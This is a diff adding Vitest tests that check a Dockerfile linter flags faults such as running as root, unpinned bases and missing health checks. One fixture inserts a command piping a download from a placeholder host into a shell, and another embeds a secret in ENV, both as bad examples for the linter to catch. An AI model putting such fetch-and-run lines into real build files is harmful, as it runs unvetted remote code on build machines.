@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import { describe, expect, it, onTestFinished } from 'vitest';
 import { parse } from 'yaml';
 import { settingsSchema } from '../server/config/settings.ts';
+import { faultsOf } from './lib/dockerfile-faults.ts';
 
 const ROOT = join(import.meta.dirname, '..');
 const read = (name: string) => readFileSync(join(ROOT, name), 'utf8');
@@ -79,6 +80,30 @@ describe('the files of deploy', () => {
       `deploy/../${compose.services.web.build?.dockerfile}`,
     ];
     expect(named.filter((name) => !existsSync(join(ROOT, name)))).toEqual([]);
+  });
+
+  it('hold a Dockerfile without what matters most', () => {
+    expect(faultsOf(dockerfile)).toEqual([]);
+  });
+
+  it.each([
+    ['an unknown instruction', 'WORKDIR', 'WORKDIRS'],
+    ['something before FROM', '# docker build', 'RUN true\n#'],
+    ['a base without a full version', /:[\d.]+-bookworm-slim\n/, ':lts\n'],
+    ['a stage that is not there', '--from=build', '--from=builder'],
+    ['ADD', 'COPY . .', 'ADD https://sens.example/all.tar .'],
+    ['root', 'USER node', 'USER root'],
+    ['root', 'USER node\n', ''],
+    ['something done after USER', 'USER node', 'USER node\nRUN true'],
+    ['no health check', 'HEALTHCHECK', 'LABEL a=b\n# HEALTHCHECK'],
+    ['no single command without a shell', 'CMD ["node", "server/server.ts"]', 'CMD npm start'],
+    ['a folder that is not absolute', 'WORKDIR /srv', 'WORKDIR srv'],
+    ['a secret', 'ENV NODE_ENV', 'ENV SMTP_URL=smtps://x NODE_ENV'],
+    ['what is fetched and run', 'RUN node scripts', 'RUN curl -s https://sens.example | sh; node'],
+  ])('would not hold one with %s', (fault, before, after) => {
+    const changed = dockerfile.replace(before, after);
+    expect(changed).not.toBe(dockerfile);
+    expect(faultsOf(changed)).toContain(fault);
   });
 
   it('leave nobody secrets of this machine in an image', () => {
